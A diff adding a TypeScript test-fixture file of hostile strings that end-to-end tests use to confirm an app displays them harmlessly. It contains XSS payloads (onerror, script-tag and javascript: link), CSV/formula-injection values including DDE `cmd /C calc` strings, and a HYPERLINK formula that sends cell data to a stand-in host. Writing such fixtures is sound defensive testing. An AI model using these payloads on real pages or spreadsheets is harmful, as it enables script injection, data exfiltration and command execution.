@@ -1,0 +1,25 @@
+/**
+ * Texts that must be shown harmlessly everywhere. Constants only, so that end-to-end tests can import them.
+ * If any of them ever runs, it sets `window.hostilCorrio`.
+ */
+
+/** What a test looks for on `window`: it must stay undefined. */
+export const HOSTILE_MARK = 'hostilCorrio';
+
+const LONG_WORD_LENGTH = 2000;
+
+export const HOSTILE = {
+  markup: `<img src=x onerror="window.${HOSTILE_MARK}=true">`,
+  script: `</td><script>window.${HOSTILE_MARK}=true</script>`,
+  link: `javascript:window.${HOSTILE_MARK}=true`,
+  formula: '=HYPERLINK("https://malo.test?d="&A1,"Ver")',
+  plus: "+1+cmd|' /C calc'!A0",
+  minus: "-2+3+cmd|' /C calc'!A0",
+  at: "@SUM(1+1)*cmd|' /C calc'!A0",
+  longWord: 'Supercalifragilístico'.repeat(LONG_WORD_LENGTH).slice(0, LONG_WORD_LENGTH),
+  rightToLeft: 'مرحبا \u202Etxet desrever\u202C שלום',
+  emoji: '🧉👩🏽‍🌾🇦🇷',
+} as const;
+
+/** Address of the hostile client: valid, so that its detail opens, and a formula's start. */
+export const HOSTILE_EMAIL = '=hostil@correo.test';
